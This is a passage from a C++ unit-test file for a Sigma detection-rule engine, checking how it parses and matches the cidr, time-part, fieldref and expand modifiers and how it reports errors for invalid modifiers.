                        rejection("sel: {DestinationIp|cidr: 192.168.1.1/24}\ncondition: sel"));
}
TEST(Cidr, Ipv6HostBitsSetIsRejected) {
    EXPECT_PRED_FORMAT2(IsSubstring, "host bits",
                        rejection("sel: {DestinationIp|cidr: 'fe80::1/10'}\ncondition: sel"));
}
// pySigma: "CIDR expression modifier only applicable to unmodified values"; and contains does
// not apply to a network.
TEST(Cidr, AfterAnotherModifierIsRejected) {
    EXPECT_PRED_FORMAT2(
        IsSubstring, "unmodified",
        rejection("sel: {DestinationIp|contains|cidr: 10.0.0.0/8}\ncondition: sel"));
}
TEST(Cidr, StringModifierAfterIsRejected) {
    EXPECT_PRED_FORMAT2(
        IsSubstring, "contains",
        rejection("sel: {DestinationIp|cidr|contains: 10.0.0.0/8}\ncondition: sel"));
}

// ---- time parts ------------------------------------------------------------------------------

TEST(TimeParts, Minute) {
    EXPECT_TRUE(matches("sel: {UtcTime|minute: 12}\ncondition: sel",
                        {{"UtcTime", "2019-11-15 03:12:40.000"}}));
}
TEST(TimeParts, Hour) {
    EXPECT_TRUE(matches("sel: {UtcTime|hour: 3}\ncondition: sel",
                        {{"UtcTime", "2019-11-15 03:12:40.000"}}));
}
TEST(TimeParts, OtherHour) {
    EXPECT_FALSE(matches("sel: {UtcTime|hour: 4}\ncondition: sel",
                         {{"UtcTime", "2019-11-15 03:12:40.000"}}));
}
TEST(TimeParts, Day) {
    EXPECT_TRUE(
        matches("sel: {UtcTime|day: 15}\ncondition: sel", {{"UtcTime", "2019-11-15T03:12:40Z"}}));
}
TEST(TimeParts, IsoWeek) {
    EXPECT_TRUE(
        matches("sel: {UtcTime|week: 46}\ncondition: sel", {{"UtcTime", "2019-11-15T03:12:40Z"}}));
}
TEST(TimeParts, Month) {
    EXPECT_TRUE(
        matches("sel: {UtcTime|month: 11}\ncondition: sel", {{"UtcTime", "2019-11-15T03:12:40Z"}}));
}
TEST(TimeParts, Year) {
    EXPECT_TRUE(matches("sel: {UtcTime|year: 2019}\ncondition: sel",
                        {{"UtcTime", "2019-11-15T03:12:40Z"}}));
}
TEST(TimeParts, FileTimeMinute) {
    EXPECT_TRUE(matches("sel: {SystemTime|minute: 5}\ncondition: sel",
                        {{"SystemTime", filetime("2019-11-15T22:05:00Z")}}));
}
TEST(TimeParts, FileTimeHour) {
    EXPECT_TRUE(matches("sel: {SystemTime|hour: 22}\ncondition: sel",
                        {{"SystemTime", filetime("2019-11-15T22:05:00Z")}}));
}
TEST(TimeParts, FileTimeDay) {
    EXPECT_TRUE(matches("sel: {SystemTime|day: 15}\ncondition: sel",
                        {{"SystemTime", filetime("2019-11-15T22:05:00Z")}}));
}
TEST(TimeParts, FileTimeWeek) {
    EXPECT_TRUE(matches("sel: {SystemTime|week: 46}\ncondition: sel",
                        {{"SystemTime", filetime("2019-11-15T22:05:00Z")}}));
}
TEST(TimeParts, FileTimeMonth) {
    EXPECT_TRUE(matches("sel: {SystemTime|month: 11}\ncondition: sel",
                        {{"SystemTime", filetime("2019-11-15T22:05:00Z")}}));
}
TEST(TimeParts, FileTimeYear) {
    EXPECT_TRUE(matches("sel: {SystemTime|year: 2019}\ncondition: sel",
                        {{"SystemTime", filetime("2019-11-15T22:05:00Z")}}));
}
// The week is the ISO 8601 week, as pySigma's backends compute it (strftime %V; Python's
// isocalendar()): 1 to 53, although the specification says "between 1 and 52".
// 2021-01-03 (a Sunday) belongs to week 53 of 2020.
TEST(TimeParts, IsoWeek53OfThePreviousYear) {
    EXPECT_TRUE(
        matches("sel: {UtcTime|week: 53}\ncondition: sel", {{"UtcTime", "2021-01-03T12:00:00Z"}}));
}
TEST(TimeParts, IsoWeek53FileTime) {
    EXPECT_TRUE(matches("sel: {SystemTime|week: 53}\ncondition: sel",
                        {{"SystemTime", filetime("2021-01-03T12:00:00Z")}}));
}
TEST(TimeParts, IsoWeek53AtTheEndOfTheYear) {
    EXPECT_TRUE(
        matches("sel: {UtcTime|week: 53}\ncondition: sel", {{"UtcTime", "2020-12-31T12:00:00Z"}}));
}
TEST(TimeParts, IsoWeek52OfThePreviousYear) {
    // 2022-01-01 (a Saturday): week 52 of 2021, a year of 52 weeks.
    EXPECT_TRUE(
        matches("sel: {UtcTime|week: 52}\ncondition: sel", {{"UtcTime", "2022-01-01T12:00:00Z"}}));
}
TEST(TimeParts, IsoWeekOneStartsOnMonday) {
    EXPECT_TRUE(
        matches("sel: {UtcTime|week: 1}\ncondition: sel", {{"UtcTime", "2021-01-04T00:00:00Z"}}));
}
TEST(TimeParts, IsoWeekOneOfTheNextYear) {
    // 2019-12-30 (a Monday) is in week 1 of 2020.
    EXPECT_TRUE(
        matches("sel: {UtcTime|week: 1}\ncondition: sel", {{"UtcTime", "2019-12-30T00:00:00Z"}}));
}
// pySigma's backends accept a time part with a comparison (`timestamp|hour|gte: 8`).
TEST(TimeParts, WithComparison) {
    EXPECT_TRUE(matches("sel: {UtcTime|hour|gte: 20}\ncondition: sel",
                        {{"UtcTime", "2019-11-15 22:05:00.000"}}));
}
TEST(TimeParts, WithComparisonOutside) {
    EXPECT_FALSE(matches("sel: {UtcTime|hour|lt: 6}\ncondition: sel",
                         {{"UtcTime", "2019-11-15 22:05:00.000"}}));
}
TEST(TimeParts, WithComparisonFileTime) {
    EXPECT_TRUE(matches("sel: {SystemTime|hour|lt: 6}\ncondition: sel",
                        {{"SystemTime", filetime("2019-11-15T02:05:00Z")}}));
}
TEST(TimeParts, NotATime) {
    EXPECT_FALSE(matches("sel: {UtcTime|hour: 3}\ncondition: sel", {{"UtcTime", "03:00"}}));
}
TEST(TimeParts, NeedsANumber) {
    EXPECT_PRED_FORMAT2(IsSubstring, "number", rejection("sel: {UtcTime|hour: x}\ncondition: sel"));
}

// ---- fieldref --------------------------------------------------------------------------------

TEST(FieldRef, Equal) {
    EXPECT_TRUE(matches("sel: {TargetUserName|fieldref: SubjectUserName}\ncondition: sel",
                        {{"TargetUserName", "Bob"}, {"SubjectUserName", "bob"}}));
}
TEST(FieldRef, Different) {
    EXPECT_FALSE(matches("sel: {TargetUserName|fieldref: SubjectUserName}\ncondition: sel",
                         {{"TargetUserName", "bob"}, {"SubjectUserName", "eve"}}));
}
TEST(FieldRef, WithNeq) {
    EXPECT_TRUE(matches("sel: {TargetUserName|fieldref|neq: SubjectUserName}\ncondition: sel",
                        {{"TargetUserName", "bob"}, {"SubjectUserName", "eve"}}));
}
TEST(FieldRef, WithNeqEqual) {
    EXPECT_FALSE(matches("sel: {TargetUserName|fieldref|neq: SubjectUserName}\ncondition: sel",
                         {{"TargetUserName", "bob"}, {"SubjectUserName", "BOB"}}));
}
TEST(FieldRef, WithContains) {
    EXPECT_TRUE(matches("sel: {CommandLine|fieldref|contains: Image}\ncondition: sel",
                        {{"CommandLine", "\"C:\\a.exe\" /x"}, {"Image", "C:\\a.exe"}}));
}
TEST(FieldRef, WithStartsWith) {
    EXPECT_TRUE(matches("sel: {Path|fieldref|startswith: Dir}\ncondition: sel",
                        {{"Path", "C:\\Temp\\x"}, {"Dir", "C:\\Temp"}}));
}
TEST(FieldRef, WithStartsWithMisses) {
    EXPECT_FALSE(matches("sel: {Path|fieldref|startswith: Dir}\ncondition: sel",
                         {{"Path", "D:\\C:\\Temp\\x"}, {"Dir", "C:\\Temp"}}));
}
TEST(FieldRef, WithEndsWith) {
    EXPECT_TRUE(matches("sel: {Path|fieldref|endswith: Name}\ncondition: sel",
                        {{"Path", "C:\\Temp\\x.exe"}, {"Name", "X.EXE"}}));
}
TEST(FieldRef, WithEndsWithMisses) {
    EXPECT_FALSE(matches("sel: {Path|fieldref|endswith: Dir}\ncondition: sel",
                         {{"Path", "C:\\Temp\\x"}, {"Dir", "C:\\Temp"}}));
}
TEST(FieldRef, MissingReferencedField) {
    EXPECT_FALSE(matches("sel: {TargetUserName|fieldref: SubjectUserName}\ncondition: sel",
                         {{"TargetUserName", "bob"}}));
}
TEST(FieldRef, ReferencedFieldNameIgnoresCase) {
    EXPECT_TRUE(matches("sel: {TargetUserName|fieldref: subjectusername}\ncondition: sel",
                        {{"TargetUserName", "bob"}, {"SubjectUserName", "bob"}}));
}
// pySigma: "Field references must not contain wildcards".
TEST(FieldRef, WildcardIsRejected) {
    EXPECT_PRED_FORMAT2(IsSubstring, "wildcard",
                        rejection("sel: {TargetUserName|fieldref: 'Subject*'}\ncondition: sel"));
}

// ---- expand ----------------------------------------------------------------------------------

TEST(Expand, ConfiguredPlaceholderExpandsToItsValues) {
    const vigie::sigma::Placeholders p = {{"Administrators", {"adm-*", "root"}}};
    EXPECT_TRUE(matches("sel: {User|expand: '%Administrators%'}\ncondition: sel",
                        {{"User", "ADM-backup"}}, &p));
}
TEST(Expand, ConfiguredPlaceholderSecondValue) {
    const vigie::sigma::Placeholders p = {{"Administrators", {"adm-*", "root"}}};
    EXPECT_TRUE(
        matches("sel: {User|expand: '%Administrators%'}\ncondition: sel", {{"User", "root"}}, &p));
}
TEST(Expand, ConfiguredPlaceholderOtherValue) {
    const vigie::sigma::Placeholders p = {{"Administrators", {"adm-*", "root"}}};
    EXPECT_FALSE(
        matches("sel: {User|expand: '%Administrators%'}\ncondition: sel", {{"User", "bob"}}, &p));
}
// Placeholder values are Sigma strings, escapes included (pySigma: SigmaString(value)): the
// configured `\\\\fs02\` stands for `\\fs02\`.
TEST(Expand, PlaceholderInsideText) {
    const vigie::sigma::Placeholders p = {{"ServerShares", {"\\\\\\\\fs01\\", "\\\\\\\\fs02\\"}}};
    EXPECT_TRUE(matches("sel: {Path|expand: '%ServerShares%public'}\ncondition: sel",
                        {{"Path", "\\\\FS02\\Public"}}, &p));
}
TEST(Expand, WithContainsAsInSigmaHq) {
    const vigie::sigma::Placeholders p = {{"DomainController", {"dc01", "dc02"}}};
    EXPECT_TRUE(matches("sel: {Workstation|contains|expand: '%DomainController%'}\ncondition: sel",
                        {{"Workstation", "corp-DC02.local"}}, &p));
}
TEST(Expand, UnconfiguredPlaceholderRejectsTheRuleByName) {
    EXPECT_PRED_FORMAT2(IsSubstring, "%Administrators%",
                        rejection("sel: {User|expand: '%Administrators%'}\ncondition: sel"));
}
TEST(Expand, OtherPlaceholderConfigured) {
    const vigie::sigma::Placeholders p = {{"Other", {"x"}}};
    EXPECT_PRED_FORMAT2(IsSubstring, "%Administrators%",
                        rejection("sel: {User|expand: '%Administrators%'}\ncondition: sel", &p));
}
TEST(Expand, EscapedPercentIsLiteral) {
    EXPECT_TRUE(matches("sel: {User|expand: '\\%Administrators\\%'}\ncondition: sel",
                        {{"User", "%administrators%"}}));
}
TEST(Expand, WithoutExpandPercentIsLiteral) {
    EXPECT_TRUE(
        matches("sel: {User: '%Administrators%'}\ncondition: sel", {{"User", "%administrators%"}}));
}

// ---- errors ----------------------------------------------------------------------------------

TEST(Errors, UnknownModifier) {
    EXPECT_PRED_FORMAT2(IsSubstring, "unknown modifier 'endswithh'",
                        rejection("sel: {Image|endswithh: x}\ncondition: sel"));
}
TEST(Errors, ModifierNamesAreCaseSensitive) {
    EXPECT_PRED_FORMAT2(IsSubstring, "unknown modifier 'Contains'",
                        rejection("sel: {Image|Contains: x}\ncondition: sel"));
}
TEST(Errors, EmptyModifier) {
    EXPECT_PRED_FORMAT2(IsSubstring, "unknown modifier ''",
                        rejection("sel: {Image|: x}\ncondition: sel"));
}
TEST(Errors, TwoTypeModifiers) {
    EXPECT_PRED_FORMAT2(IsSubstring, "incompatible",
                        rejection("sel: {Image|re|cidr: x}\ncondition: sel"));
}
